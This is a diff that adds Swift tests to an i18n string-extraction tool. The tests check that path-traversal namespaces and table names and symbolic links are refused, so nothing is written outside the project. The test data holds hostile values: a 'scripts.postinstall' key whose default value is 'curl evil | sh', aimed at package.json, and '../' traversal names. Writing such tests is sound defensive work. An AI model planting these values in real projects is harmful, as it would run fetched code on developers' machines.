@@ -240,6 +240,58 @@ struct ExtractCommandTests {
         #expect(!again.stdout.contains("is not in"))
     }
 
+    @Test("a namespace or table that is not a plain file name is exit 65 at the call, and --write writes nothing outside the project",
+          arguments: [
+            (#"t("scripts.postinstall", ["ns": "../../../package", "defaultValue": "curl evil | sh"])"#, "3:41", "namespace"),
+            (#"t("../../../package:scripts.postinstall", ["defaultValue": "curl evil | sh"])"#, "3:11", "namespace"),
+            (#"String(localized: "k", table: "../../outside")"#, "3:39", "table name"),
+            (#"NSLocalizedString("k", tableName: "sub/Localizable", comment: "")"#, "3:43", "table name"),
+            (#"t("k", ["ns": ".hidden"])"#, "3:23", "namespace"),
+          ])
+    func namesThatLeaveTheProject(call: String, position: String, role: String) throws {
+        let workspace = try Workspace()
+        try workspace.write("package.json", "{\"name\": \"app\"}\n")
+        try workspace.write("Sources/App.swift", "func screen() {\n    _ = t(\"fresh.key\", [\"defaultValue\": \"Fresh\"])\n    _ = \(call)\n}\n")
+        let before = Self.listing(workspace.path)
+        let result = try workspace.run(["i18n", "extract", "--write", "Sources"])
+        #expect(result.status == 65, "\(result.stdout)\(result.stderr)")
+        #expect(result.stdout.contains("Sources/App.swift:\(position): error: the \(role) "), "\(result.stdout)")
+        #expect(result.stdout.contains("cannot name a file"), "\(result.stdout)")
+        #expect(workspace.read("package.json") == Data("{\"name\": \"app\"}\n".utf8))
+        // The valid call's key is still added; nothing else appears anywhere.
+        #expect(result.stdout.contains("environments/locales/en/translation.json: added \"fresh.key\""), "\(result.stdout)")
+        #expect(Self.listing(workspace.path) == before)
+        #expect(!FileManager.default.fileExists(atPath: (workspace.path as NSString).deletingLastPathComponent + "/outside.xcstrings"))
+    }
+
+    /// Every path below `folder`, relative to it, sorted.
+    static func listing(_ folder: String) -> [String] {
+        (FileManager.default.subpaths(atPath: folder) ?? []).filter { !$0.hasPrefix("config") }.sorted()
+    }
+
+    @Test("--write refuses a link inside the locales or tables (exit 73) and leaves its target as it was")
+    func linksInsideTheFolders() throws {
+        let workspace = try Workspace()
+        try workspace.write("package.json", "{\"name\": \"app\"}\n")
+        try workspace.write("Sources/App.swift", #"func screen() { _ = t("scripts.postinstall", ["ns": "package", "defaultValue": "curl evil | sh"]) }"# + "\n")
+        try FileManager.default.createSymbolicLink(atPath: workspace.path + "/environments/locales/en/package.json",
+                                                   withDestinationPath: workspace.path + "/package.json")
+        let result = try workspace.run(["i18n", "extract", "--write", "Sources"])
+        #expect(result.status == 73, "\(result.stdout)\(result.stderr)")
+        #expect(result.stdout.contains("is a symbolic link"), "\(result.stdout)")
+        #expect(workspace.read("package.json") == Data("{\"name\": \"app\"}\n".utf8))
+
+        let other = try Workspace()
+        try other.write("Sources/App.swift", #"func screen() { _ = String(localized: "k", table: "Other") }"# + "\n")
+        try other.write("outside/keep.txt", "keep\n")
+        try FileManager.default.createSymbolicLink(atPath: other.path + "/environments/linked", withDestinationPath: other.path + "/outside")
+        try FileManager.default.createSymbolicLink(atPath: other.path + "/environments/Other.xcstrings",
+                                                   withDestinationPath: other.path + "/outside/Other.xcstrings")
+        let linked = try other.run(["i18n", "extract", "--write", "Sources"])
+        #expect(linked.status == 73, "\(linked.stdout)\(linked.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: other.path + "/outside/Other.xcstrings"))
+    }
+
     @Test("a path that does not exist is reported on stderr with exit 66")
     func missingPath() throws {
         let workspace = try Workspace()
